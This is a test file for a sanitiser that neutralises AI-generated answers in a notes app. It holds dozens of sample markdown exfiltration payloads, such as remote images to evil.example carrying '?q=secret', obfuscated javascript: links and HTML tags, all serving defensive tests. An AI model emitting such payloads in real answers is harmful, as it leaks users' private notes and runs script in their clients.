"""Answers made inert before rendering: no remote image, no one-click external link, no HTML, no runnable code."""

from __future__ import annotations

import pytest

from askvault.generate.answer_safety import SAFE_LANGUAGES, neutralise_answer
from tests.generate.markdown_oracle import live

EVIL = "https://evil.example/p.png?q=secret"
GONE = "[image removed: evil.example]"


def _kinds(answer: str) -> list[str]:
    return [f"{n.kind}:{n.target or '-'}" for n in neutralise_answer(answer).neutralised]


# The plugin's cases (plugin/tests/neutralise.test.ts), same decisions. The sidecar writes the marker as
# `[image removed: host]` (docs/api.md), escaped only where a neighbour could make a link of it.
PLUGIN_CASES = [
    pytest.param(f"See ![x]({EVIL}) here", f"See {GONE} here", ["image:evil.example"], id="remote-image"),
    pytest.param("![x](//evil.example/p.png)", GONE, ["image:evil.example"], id="protocol-relative-image"),
    pytest.param('![x](https://evil.example/p.png "t")', GONE, ["image:evil.example"], id="image-with-title"),
    pytest.param("![x](<https://evil.example/a b.png>)", GONE, ["image:evil.example"], id="image-in-angle-brackets"),
    pytest.param("![a\nb](https://evil.example/p.png)", GONE, ["image:evil.example"], id="alt-text-over-two-lines"),
    pytest.param("![a [b] c](https://evil.example/p.png)", GONE, ["image:evil.example"], id="nested-brackets-in-alt"),
    pytest.param("![x](https&#58;//evil.example/p.png)", GONE, ["image:evil.example"], id="scheme-by-reference"),
    pytest.param("![x](https\\://evil.example/p.png)", GONE, ["image:evil.example"], id="scheme-by-escape"),
    pytest.param("![x](<ht\ttps://evil.example/p.png>)", GONE, ["image:evil.example"], id="scheme-split-by-tab"),
    pytest.param("![x](data:image/png;base64,AAAA)", "[image removed: data]", ["image:data"], id="data-image"),
    pytest.param(f"![x][r]\n\n[r]: {EVIL}", "[image removed]\n", ["image:-", "definition:evil.example"],
                 id="reference-image"),
    pytest.param(f"![r]\n\n[r]: {EVIL}", "\\![r]\n", ["definition:evil.example"], id="shortcut-reference-image"),
    pytest.param(f"[r]:\n{EVIL}\n\n[a][r]", "\n[a][r]", ["definition:evil.example"], id="definition-url-next-line"),
    pytest.param("![chart](attachments/chart.png)", "![chart](attachments/chart.png)", [], id="local-image-stays"),
    pytest.param("![chart](<my chart.png>)", "![chart](my%20chart.png)", [], id="local-image-with-spaces"),
    pytest.param("![[Private/Secret note]]", "[[Private/Secret note]]", ["embed:-"], id="wiki-embed"),
    pytest.param("![x](Private/secret.md)", "[x](Private/secret.md)", ["embed:-"], id="markdown-embed-of-note"),
    pytest.param("[site](https://evil.example)", "site (`https://evil.example`)", ["link:evil.example"],
                 id="external-link"),
    pytest.param("[1](https://evil.example)", "[1] (`https://evil.example`)", ["link:evil.example"],
                 id="numeric-label-keeps-brackets"),
    pytest.param("[click](javascript:alert(1))", "click (`javascript:alert(1)`)", ["link:javascript"],
                 id="javascript-link"),
    pytest.param("[open](obsidian://open?vault=x)", "open (`obsidian://open?vault=x`)", ["link:open"],
                 id="obsidian-link"),
    pytest.param(f"[![x]({EVIL})](https://evil.example)", f"{GONE} (`https://evil.example`)",
                 ["image:evil.example", "link:evil.example"], id="link-around-remote-image"),
    pytest.param("<https://evil.example/x>", "`https://evil.example/x`", ["link:evil.example"], id="autolink"),
    pytest.param(f"see {EVIL}.", f"see `{EVIL}`.", ["link:evil.example"], id="bare-url-punctuation-outside"),
    pytest.param("go to www.evil.example now", "go to `www.evil.example` now", ["link:www.evil.example"],
                 id="bare-www"),
    pytest.param("[Kodi](Homelab/Kodi.md#Maintenance)", "[Kodi](Homelab/Kodi.md#Maintenance)", [],
                 id="local-link-stays"),
    pytest.param("[[Homelab/Kodi#Maintenance|Kodi]]", "[[Homelab/Kodi#Maintenance|Kodi]]", [], id="wikilink-stays"),
    pytest.param('<img src="https://evil.example/p.png">', '&lt;img src="`https://evil.example/p.png`">',
                 ["html:evil.example", "link:evil.example"], id="img-tag"),
    pytest.param("<iframe>x</iframe>", "&lt;iframe>x&lt;/iframe>", ["html:iframe", "html:iframe"], id="iframe-tag"),
    pytest.param("a < b", "a &lt; b", [], id="lone-lt-is-text"),
    pytest.param("```dataviewjs\ndv.el('b', 'x')\n```", "```text\ndv.el('b', 'x')\n```", ["code:dataviewjs"],
                 id="dataviewjs-block"),
    pytest.param("~~~tasks\nnot done\n~~~", "~~~text\nnot done\n~~~", ["code:tasks"], id="tasks-block-tildes"),
    pytest.param("```mermaid theme\ngraph TD\n```", "```text\ngraph TD\n```", ["code:mermaid"], id="mermaid"),
    pytest.param("```python\nprint('<img src=https://x>')\n```", "```python\nprint('<img src=https://x>')\n```", [],
                 id="python-block-kept"),
    pytest.param("- a\n\n    ```dataview\n    LIST\n    ```", "- a\n\n    ```text\n    LIST\n    ```",
                 ["code:dataview"], id="fence-in-list-item"),
    pytest.param("> ```query\n> tag:#x\n> ```", "> ```text\n> tag:#x\n> ```", ["code:query"], id="fence-in-quote"),
    pytest.param("`= this.file.name` and `$= dv.current()`",
                 "`(query) = this.file.name` and `(query) $= dv.current()`", ["code:dataview", "code:dataview"],
                 id="dataview-inline-queries"),
    pytest.param("Run `ps aux | grep <x>` now", "Run `ps aux | grep <x>` now", [], id="inline-code-as-written"),
    pytest.param(f"```\ncode\n````\n![x]({EVIL})", f"```\ncode\n````\n{GONE}", ["image:evil.example"],
                 id="longer-fence-closes"),
    pytest.param(f"```a`b\n![x]({EVIL})", f"\\`\\`\\`a\\`b\n{GONE}", ["image:evil.example"],
                 id="backtick-in-info-is-no-fence"),
    pytest.param(f"\t```\n![x]({EVIL})\n\t```", f"\t```\n{GONE}\n\t```", ["image:evil.example"],
                 id="tab-indented-fence-is-indented-code"),
    pytest.param(f"- item\n  ```\n![x]({EVIL})\n  ```", f"- item\n  ```\n{GONE}\n  ```", ["image:evil.example"],
                 id="list-item-fence-ends-with-item"),
    pytest.param(f"\\`![x]({EVIL}) `y`", f"\\`{GONE} `y`", ["image:evil.example"], id="escaped-backtick-no-span"),
    pytest.param(f"`a\n\n![x]({EVIL})\n\nb`", f"\\`a\n\n{GONE}\n\nb\\`", ["image:evil.example"],
                 id="code-spans-do-not-cross-paragraphs"),
    pytest.param(f"| a | b |\n|---|---|\n| `x | ![y]({EVIL}) | z` |",
                 f"| a | b |\n|---|---|\n| \\`x | {GONE} | z\\` |", ["image:evil.example"],
                 id="table-cells-split-spans"),
    pytest.param(f"$`$ ![x]({EVIL}) `", f"$\\`$ {GONE} \\`", ["image:evil.example"], id="math-could-close-in-code"),
    pytest.param(f"[a](https://e.example/`) ![x]({EVIL}) `", f"a (`https://e.example/`) {GONE} \\`",
                 ["link:e.example", "image:evil.example"], id="destination-before-backtick"),
    pytest.param("x](https://evil.example)", "x]\\(`https://evil.example`)", ["link:evil.example"],
                 id="unmatched-bracket-paren"),
    pytest.param("> [!note] Port\n> 5433 [1]\n\n- [ ] check [2]", "> [!note] Port\n> 5433 [1]\n\n- [ ] check [2]", [],
                 id="citations-tasks-callout"),
    pytest.param("x[^1]\n\n[^1]: from the note", "x[^1]\n\n[^1]: from the note", [], id="footnote-definition"),
]  # fmt: skip

# CommonMark edge cases the regex neutraliser missed, and what the markdown-it fuzzing found beyond the plugin's.
EDGE_CASES = [
    pytest.param("![x](&#x68;ttps://evil.example/p.png)", GONE, ["image:evil.example"], id="hex-reference-scheme"),
    pytest.param("[x](javascript&colon;alert(1))", "x (`javascript&colon;alert(1)`)", ["link:javascript"],
                 id="named-reference-colon"),
    pytest.param("![x](javascript&colon;alert(1))", "[image removed: javascript]", ["image:javascript"],
                 id="named-reference-colon-image"),
    pytest.param("[a [b] c](https://evil.example)", "a [b] c (`https://evil.example`)", ["link:evil.example"],
                 id="nested-brackets-in-link-text"),
    pytest.param(f"![a [b [c]] d]({EVIL})", GONE, ["image:evil.example"], id="deeply-nested-alt"),
    pytest.param("[x](&nope;evil.example)", "x (`&nope;evil.example`)", ["link:-"], id="unknown-reference-external"),
    pytest.param(f"![x]({EVIL})(//evil.example/x)", "\\[image removed: evil.example\\]\\(`//evil.example/x`)",
                 ["image:evil.example", "link:evil.example"], id="marker-escaped-before-paren"),
    pytest.param("![x](https://www.evil.example/p.png)", GONE, ["image:www.evil.example"],
                 id="marker-host-without-www"),
    pytest.param("see //evil.example/x now", "see `//evil.example/x` now", ["link:evil.example"],
                 id="bare-protocol-relative"),
    pytest.param("mail mailto:a@evil.example now", "mail `mailto:a@evil.example` now", ["link:mailto"],
                 id="bare-mailto"),
    pytest.param("[a\nb]: //evil.example/x\n\n[a b]", "\n[a b]", ["definition:evil.example"],
                 id="definition-label-over-lines"),
    pytest.param("[r]: <//evil.example/a b>\n\n[r]", "\n[r]", ["definition:evil.example"],
                 id="definition-in-angle-brackets"),
    pytest.param(f"````\n```\n![x]({EVIL})\n````\n<img src=x>", f"````\n```\n{GONE}\n````\n&lt;img src=x>",
                 ["image:evil.example", "html:-"], id="shorter-fence-closes-only-for-some"),
    pytest.param(f"- a\n  ```\n  code\n```\n![x]({EVIL})", f"- a\n  ```\n  code\n```\n{GONE}", ["image:evil.example"],
                 id="dedented-closer-may-open"),
    pytest.param(f"x\n\t- ```\n![x]({EVIL}) ``` <img>", f"x\n\t- ```\n{GONE} \\`\\`\\` &lt;img>",
                 ["image:evil.example", "html:img"], id="fence-line-read-as-code-span"),
    pytest.param(f"a\r![x]({EVIL})", f"a\n{GONE}", ["image:evil.example"], id="carriage-return-is-a-line-end"),
    pytest.param("!![x](Note.md)", "\\![x](Note.md)", ["embed:-"], id="bang-before-embed-link"),
    pytest.param("![[https://evil.example/x]]", "[[`https://evil.example/x`]]", ["embed:-", "link:evil.example"],
                 id="embed-of-url"),
    pytest.param("[x](a/https://evil.example)", "[x](a/https%3A/%2Fevil.example)", [], id="url-inside-local-path"),
]  # fmt: skip

# Ordinary answers pass through untouched.
BENIGN = [
    pytest.param("Postgres listens on 5433 [1], see also [2][3].", id="prose-with-citations"),
    pytest.param("The runbook is in [[Homelab/Postgres]] and [[Kodi#Maintenance|Kodi]] [1].", id="wikilinks"),
    pytest.param("Open [the note](Homelab/Postgres.md) or ![diagram](attachments/net.png).", id="vault-links"),
    pytest.param("Run `curl https://example.com/health` to check [2].", id="inline-code-with-url"),
    pytest.param("```bash\ncurl -s ![x](http://e.example/p.png) https://e.example\n```", id="fenced-code-with-image"),
    pytest.param("Steps:\n\n1. Stop it [1]\n2. Vacuum\n   ```sql\n   VACUUM;\n   ```\n- [ ] check [2]", id="lists"),
    pytest.param("| Port | Use |\n|---|---|\n| 5433 | host [1] |\n| 5432 | container |", id="table"),
    pytest.param("> [!tip] Backups\n> Take one first [2].\n\n**Bold** and _em_ ~~gone~~.", id="callout-emphasis"),
    pytest.param("x[^1]\n\n[^1]: from the note\n\n---\n\n## Heading", id="footnote-rule-heading"),
]  # fmt: skip


@pytest.mark.parametrize(("answer", "expected", "kinds"), [*PLUGIN_CASES, *EDGE_CASES])
def test_neutralise_answer(answer: str, expected: str, kinds: list[str]) -> None:
    safe = neutralise_answer(answer)
    assert safe.text == expected
    assert _kinds(answer) == kinds
    assert safe.changed == bool(kinds)
    assert live(safe.text) == []
    assert neutralise_answer(safe.text).text == safe.text


@pytest.mark.parametrize("answer", BENIGN)
def test_benign_answers_are_unchanged(answer: str) -> None:
    safe = neutralise_answer(answer)
    assert safe.text == answer
    assert safe.neutralised == ()


def test_code_stays_code() -> None:
    answer = "```\n![x](http://e.example/p.png) <img src=x>\n```"
    assert neutralise_answer(answer).text == answer
    assert live(answer) == []  # rendered, the image is code text, not an image


@pytest.mark.parametrize(
    "inert",
    [
        pytest.param("Port 5433 [1]. [image removed: evil.example]", id="image"),
        pytest.param("See site (`https://evil.example`) and [1] (`https://evil.example/a`).", id="link"),
        pytest.param('&lt;img src="`https://evil.example/p.png`"> and &lt;/div>', id="tag"),
        pytest.param("[[Private/Secret note]]", id="embed"),
        pytest.param("```text\nLIST FROM #x\n```", id="fence"),
        pytest.param("`(query) = this.file.name`", id="inline-query"),
    ],
)
def test_inert_text_is_left_as_it_is(inert: str) -> None:
    safe = neutralise_answer(inert)
    assert safe.text == inert
    assert safe.neutralised == ()


def test_targets_are_hosts_never_full_urls() -> None:
    safe = neutralise_answer("![x](https://evil.example/?q=CANARY-SECRET) [a](https://e.example/CANARY)")
    assert [n.target for n in safe.neutralised] == ["evil.example", "e.example"]


def test_plain_highlighter_languages() -> None:
    assert {"python", "ts", "bash", "json", "yaml", "text", "c++", "dockerfile"} <= SAFE_LANGUAGES
    assert not {"dataview", "dataviewjs", "tasks", "mermaid", "query", "button", "ad-note"} & SAFE_LANGUAGES
